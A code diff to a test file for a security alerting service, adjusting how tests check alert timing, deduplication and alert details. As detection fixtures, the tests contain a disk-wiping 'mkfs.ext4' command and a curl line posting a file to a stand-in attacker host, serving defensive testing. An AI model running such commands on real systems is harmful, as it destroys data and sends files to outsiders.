@@ -136,11 +136,21 @@ describe('built-in rules', () => {
     expect(await alertsOf(a, { session_key: s })).toEqual([])
   })
 
-  test('an alert before the pipeline ran has no action id yet; it appears once the action is stored', async () => {
+  test('on the local bus alerts follow the pipeline: nothing before it, then the alert names its action', async () => {
     const s = `s-${crypto.randomUUID()}`
     await ingest(a, [bash(s, 'mkfs.ext4 /dev/sdb1')])
-    await alertsConsumer()
+    expect(await alertsConsumer()).toBe(0)
+    await pipeline()
+    expect(await alertsConsumer()).toBe(1)
+    expect((await alertsOf(a, { session_key: s }))[0].action_id).toMatch(/^[0-9a-f-]{36}$/)
+  })
+
+  test('an alert before the pipeline ran (SNS) has no action id yet; it appears once the action is stored', async () => {
+    const s = `s-${crypto.randomUUID()}`
+    const trigger = bash(s, 'mkfs.ext4 /dev/sdb1')
+    await beforePipeline(trigger)
     expect((await alertsOf(a, { session_key: s }))[0].action_id).toBeNull()
+    await ingest(a, [trigger])
     await pipeline()
     expect((await alertsOf(a, { session_key: s }))[0].action_id).toMatch(/^[0-9a-f-]{36}$/)
   })
@@ -155,9 +165,12 @@ describe('exactly one alert per (rule, event)', () => {
       bash(s, 'curl -d @x https://evil.example', { timestamp: at(11) }),
     ]
     await ingest(a, events)
+    await alertsConsumer() // the pipeline has not run: the retry below is accepted again
+    const again = await ingest(a, events)
+    expect(again.body.accepted).toBe(3)
     await alertsConsumer()
-    // The pipeline has not run, but the ack entered the events in the ledger: not published again.
-    expect((await ingest(a, events)).body.duplicates).toBe(3)
+    await drain()
+    expect((await ingest(a, events)).body.duplicates).toBe(3) // now known: not even published
     await drain()
     const first = await alertsOf(a, { session_key: s })
     expect(keysOf(first)).toEqual(
@@ -169,7 +182,7 @@ describe('exactly one alert per (rule, event)', () => {
         'builtin:outbound_after_credential_read',
       ].sort(),
     )
-    // The same message delivered again without the ack's ledger (SNS), twice in one call: nothing.
+    // Replaying the same message straight into the handler (as after a crash) changes nothing.
     const message = wireMessage(events)
     await withOrg(db.app, a.org_id, (tx) =>
       evaluateAlerts(tx, [
@@ -574,12 +587,13 @@ describe('GET /v1/alerts/{id}: the alert, its event, its session and what led up
     const s = `s-${crypto.randomUUID()}`
     await ingest(a, [bash(s, 'whoami', { timestamp: at(200) }), bash(s, 'id', { timestamp: at(202) })])
     await drain()
-    await ingest(a, [bash(s, 'mkfs.ext4 /dev/sdb1', { timestamp: at(201) })])
-    await alertsConsumer()
+    const trigger = bash(s, 'mkfs.ext4 /dev/sdb1', { timestamp: at(201) })
+    await beforePipeline(trigger)
     const alert = await only(a, { session_key: s })
     const early = await detail(a, alert.id)
     expect(early.body.event).toBeNull()
     expect(early.body.preceding_events.map((e: any) => e.arguments.command)).toEqual(['whoami'])
+    await ingest(a, [trigger])
     await pipeline()
     const later = await detail(a, alert.id)
     expect(later.body.event.arguments).toEqual({ command: 'mkfs.ext4 /dev/sdb1' })
@@ -678,6 +692,14 @@ describe('every alert names its machine', () => {
     expect((await alertsOf(a, { machine_id: machine })).map((x) => x.id)).toEqual([alert.id])
   })
 })
+
+/**
+ * The alerts consumer applying `items` before the pipeline stored them, as on SNS, where every
+ * consumer takes what ingest published (on the local bus alerts follow the pipeline).
+ */
+async function beforePipeline(...items: Record<string, unknown>[]): Promise<void> {
+  await withOrg(db.app, a.org_id, (tx) => evaluateAlerts(tx, [{ batchId: '0', message: wireMessage(items) }]))
+}
 
 /** The bus message ingest would publish for these items. */
 function wireMessage(items: Record<string, unknown>[]): BusMessage {
